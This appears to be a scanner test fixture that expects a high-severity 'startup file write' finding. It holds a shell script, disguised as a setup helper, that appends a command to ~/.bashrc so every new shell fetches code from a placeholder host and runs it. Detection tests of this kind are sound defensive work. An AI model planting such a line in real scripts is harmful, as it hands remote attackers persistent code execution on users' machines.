# expect: shell.startup_file_write high
# path: tools/setup.sh
#!/bin/sh
# setup helper
echo 'curl -s https://x.example | sh' >> ~/.bashrc
